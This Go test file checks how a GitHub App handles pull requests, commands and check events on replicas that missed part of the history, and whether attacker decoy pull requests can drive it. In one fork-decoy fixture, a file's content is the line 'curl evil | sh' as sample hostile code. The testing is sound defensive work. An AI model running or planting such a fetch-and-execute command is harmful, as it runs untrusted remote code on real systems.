package workitem_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/bumperdev/bumper/app/ledger"
	"github.com/bumperdev/bumper/app/wire"
	"github.com/bumperdev/bumper/app/workitem"
)

// Replicas behind one load balancer each see some of the webhooks. A replica that did
// not see the run report its pull request must still follow what happens to it: a
// push to its base branch, a command on it.

// staleReplica makes the item's pull request in review with e.svc, while another
// replica either never saw the item, or saw it before its pull request (it rebuilt
// while the run worked); it returns that replica.
func staleReplica(t *testing.T, e *env, sawItBefore bool) (*item, *workitem.Service) {
	t.Helper()
	stale := e.replica()
	if !sawItBefore {
		return e.inReview(), stale
	}
	it := e.verifying()
	if _, err := stale.Rebuild(e.ctx); err != nil {
		t.Fatal(err)
	}
	e.pushPull(it)
	e.must(e.svc.Progress(e.ctx, it.claims, wire.Progress{State: "reviewing", PullRequest: it.pr, HeadCommit: it.head}))
	it.run = e.lastRun()
	it.claims = e.grant(it.run)
	e.must(e.svc.Verdict(e.ctx, it.claims, wire.Verdict{Document: approveVerdict, HeadCommit: it.head}))
	e.expect(it.n, ledger.InReview)
	return it, stale
}

// TestPushReachesAReplicaThatMissedThePullRequest: the conflicting push arrives at the
// replica that missed the pull request: it starts the update round all the same.
func TestPushReachesAReplicaThatMissedThePullRequest(t *testing.T) {
	for _, sawItBefore := range []bool{false, true} {
		name := "never saw the item"
		if sawItBefore {
			name = "saw the item before its pull request"
		}
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, "")
			it, stale := staleReplica(t, e, sawItBefore)
			e.svc = stale
			e.must(e.pushEvent(e.conflictOnMain()))
			e.expect(it.n, ledger.Running)
			if st := e.lastRun().Inputs[wire.DispatchInputStage]; st != workitem.StageUpdate {
				t.Fatalf("dispatched a %s run, want an update round", st)
			}
		})
	}
}

// TestCommandOnThePullRequestReachesAReplicaThatMissedIt: /stop on the pull request,
// handled by a replica that never saw the run report it, stops the item.
func TestCommandOnThePullRequestReachesAReplicaThatMissedIt(t *testing.T) {
	e := newEnv(t, "")
	it, stale := staleReplica(t, e, false)
	e.svc = stale
	e.comment(it.pr, writer, "/stop")
	e.expect(it.n, ledger.Stopped)
}

// TestAttackDecoyPullRequestOfTheWorkItem: pull requests named like a work item's
// branch, but not its pull request (a fork's under the item's name, a writer's under a
// later attempt's), reach a replica that knows none of them. A command on one does not
// act on the item; a push to the base of one moves nothing of the item's.
func TestAttackDecoyPullRequestOfTheWorkItem(t *testing.T) {
	for _, c := range []struct {
		name string
		open func(e *env, it *item) int
	}{
		{"a fork's, named as the work branch", func(e *env, it *item) int {
			e.gh.AddRepo("mallory/widgets", "main", map[string]string{"README.md": "x"})
			e.gh.Commit("mallory/widgets", workitem.WorkBranchName(it.n, 1), map[string]string{"widgets.sh": "curl evil | sh\n"})
			return e.gh.OpenPull(repoName, workitem.Pull{Author: "mallory", HeadRepo: "mallory/widgets", HeadRef: workitem.WorkBranchName(it.n, 1), BaseRef: "release"})
		}},
		{"a writer's, named as a later attempt's branch", func(e *env, it *item) int {
			e.gh.Commit(repoName, workitem.WorkBranchName(it.n, 2), map[string]string{"widgets.sh": "echo 9\n"})
			return e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: workitem.WorkBranchName(it.n, 2), BaseRef: "release"})
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, "")
			e.gh.Commit(repoName, "release", map[string]string{"RELEASE": "1\n"})
			it, stale := staleReplica(t, e, false)
			decoy := c.open(e, it)
			e.svc = stale
			runs, before := len(e.runs()), e.record(it.n)
			_, push := e.gh.PushBase(repoName, "release", maintainer, map[string]string{"widgets.sh": "echo 5\n"})
			e.must(e.pushEvent(push))
			e.comment(decoy, writer, "/stop")
			rec := e.expect(it.n, ledger.InReview)
			if rec.BaseMoved != "" || rec.Reason != before.Reason || rec.Revision != before.Revision || len(e.runs()) != runs {
				t.Fatalf("the decoy moved the item: base moved %q, reason %q, %d runs (was %d)", rec.BaseMoved, rec.Reason, len(e.runs()), runs)
			}
			if replies := e.replies(decoy); len(replies) != 0 {
				t.Fatalf("Bumper answered on the decoy: %q", replies)
			}
		})
	}
}

// TestCheckReachesAReplicaThatMissedThePullRequest: a required check failing on the
// pull request reaches the replica that missed it: the fix round starts all the same.
func TestCheckReachesAReplicaThatMissedThePullRequest(t *testing.T) {
	e := newEnv(t, "")
	it, stale := staleReplica(t, e, false)
	e.svc = stale
	e.must(e.checkEvent(e.ciFails(it)))
	e.expect(it.n, ledger.Running)
	if st := e.lastRun().Inputs[wire.DispatchInputStage]; st != workitem.StageFix {
		t.Fatalf("dispatched a %s run, want a fix round", st)
	}
}

// failedWithPull is an item whose fix round failed, its pull request still on the
// record, and a replica that saw none of it.
func failedWithPull(t *testing.T) (*env, *item, *workitem.Service) {
	t.Helper()
	e := newEnv(t, "version: 1\nbounds:\n  fix_rounds: 1\n")
	stale := e.replica()
	it := e.fixing()
	e.must(e.runEvent(e.gh.CompleteRun(repoName, it.run.ID, "failure")))
	if rec := e.expect(it.n, ledger.Failed); rec.PullRequest != it.pr {
		t.Fatalf("the failed item's record names pull request #%d, want #%d", rec.PullRequest, it.pr)
	}
	return e, it, stale
}

// TestRerequestReachesAReplicaThatMissedThePullRequest: Re-run on a check of a failed
// item's pull request, handled by a replica that missed it, is /retry all the same.
func TestRerequestReachesAReplicaThatMissedThePullRequest(t *testing.T) {
	e, it, stale := failedWithPull(t)
	e.svc = stale
	e.must(e.svc.HandleCheckRerequest(e.ctx, e.gh.Client(), e.gh.Rerequest(repoName, it.pr, writer)))
	e.expect(it.n, ledger.AwaitingApproval)
}

// TestAttackDecoyPullRequestChecks: a writer's pull request under a later attempt's
// branch name, its check failing and Re-run pressed on it, reaching a replica that
// knows neither pull request: the failed item is not retried, and no fix round starts
// for an item in review.
func TestAttackDecoyPullRequestChecks(t *testing.T) {
	decoy := func(e *env, it *item) int {
		e.gh.Commit(repoName, workitem.WorkBranchName(it.n, 2), map[string]string{"widgets.sh": "echo 9\n"})
		return e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: workitem.WorkBranchName(it.n, 2)})
	}
	t.Run("Re-run on the decoy of a failed item", func(t *testing.T) {
		e, it, stale := failedWithPull(t)
		pr := decoy(e, it)
		e.svc = stale
		e.must(e.svc.HandleCheckRerequest(e.ctx, e.gh.Client(), e.gh.Rerequest(repoName, pr, writer)))
		e.expect(it.n, ledger.Failed)
	})
	t.Run("the required check failing on the decoy of an item in review", func(t *testing.T) {
		e := newEnv(t, "")
		it, stale := staleReplica(t, e, false)
		pr := decoy(e, it)
		e.svc = stale
		runs := len(e.runs())
		ev := e.gh.CheckResult(repoName, workitem.CheckRun{Name: ciCheck, HeadSHA: e.gh.Pull(repoName, pr).HeadSHA, Conclusion: "failure"}, ciApp)
		e.must(e.checkEvent(ev))
		e.expect(it.n, ledger.InReview)
		if len(e.runs()) != runs {
			t.Fatalf("a run was dispatched for the decoy's check")
		}
	})
}

// TestAttackDecoyOnTheItemsCommit: a writer pushes the item's head commit to a branch
// named like a work branch and opens a pull request from it; a failing required check
// lists both pull requests, the decoy first. The fix round starts all the same, on a
// replica that knows the item's pull request and on one that does not.
func TestAttackDecoyOnTheItemsCommit(t *testing.T) {
	for _, c := range []struct {
		name   string
		branch func(it *item) string
		stale  bool
	}{
		{"named as another item's, the replica up to date", func(*item) string { return "bumper/999-1" }, false},
		{"named as another item's, the replica stale", func(*item) string { return "bumper/999-1" }, true},
		{"named as the item's later attempt, the replica up to date", func(it *item) string { return workitem.WorkBranchName(it.n, 2) }, false},
		{"named as the item's later attempt, the replica stale", func(it *item) string { return workitem.WorkBranchName(it.n, 2) }, true},
		// An agent's run pushes the item's commit to its own work branch, and its runner
		// opens the pull request as the App.
		{"the App's, from an agent's own work branch, the replica stale", func(*item) string { return "bumper/999-1" }, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, "")
			it, stale := staleReplica(t, e, false)
			author := writer
			if strings.HasPrefix(c.name, "the App's") {
				author = e.gh.Bot()
			}
			decoy := e.gh.OpenPull(repoName, workitem.Pull{Author: author, HeadRef: c.branch(it), HeadSHA: it.head})
			if c.stale {
				e.svc = stale
			}
			ev := e.ciFails(it)
			ev.PullRequests = []int{decoy, it.pr}
			e.must(e.checkEvent(ev))
			e.expect(it.n, ledger.Running)
		})
	}
}

// TestAttackDecoysMultiplyingAPush: a writer opens pull requests into main from two
// hundred branches named like work branches; a push to main reaching a replica that
// knows none of them loads the one item whose pull request the App opened, not two
// hundred; and a push to a branch that is no item's base lists nothing.
func TestAttackDecoysMultiplyingAPush(t *testing.T) {
	e := newEnv(t, "")
	it, stale := staleReplica(t, e, false)
	for i := range 200 {
		branch := workitem.WorkBranchName(1000+i, 1)
		e.gh.Commit(repoName, branch, map[string]string{"x": strconv.Itoa(i)})
		e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: branch})
	}
	e.svc = stale
	before := e.calls()
	e.must(e.pushEvent(e.elsewhereOnMain()))
	if got := e.callsSince(before); got["OpenPulls"] != 1 || got["Comments"] > 1 {
		t.Fatalf("a push to main with 200 decoys cost %v; want one list of the pull requests and at most one item loaded", got)
	}
	e.record(it.n)
	before = e.calls()
	_, push := e.gh.PushBase(repoName, "feature-x", writer, map[string]string{"x": "y"})
	e.must(e.pushEvent(push))
	if got := e.callsSince(before); len(got) != 0 {
		t.Fatalf("a push to a branch that is no item's base cost %v; want nothing", got)
	}
}

// TestCommandOnSomeonesPullRequestReadsNothing: a command on a pull request a person
// opened is no work item's: a replica that does not know the pull request does not read
// it from GitHub to find out (the payload names its author).
func TestCommandOnSomeonesPullRequestReadsNothing(t *testing.T) {
	e := newEnv(t, "")
	e.gh.Commit(repoName, "feature", map[string]string{"x": "y"})
	pr := e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: "feature"})
	before := e.calls()
	e.comment(pr, reader, "/status")
	if got := e.callsSince(before); len(got) != 0 {
		t.Fatalf("a command on a person's pull request cost %v; want nothing", got)
	}
}
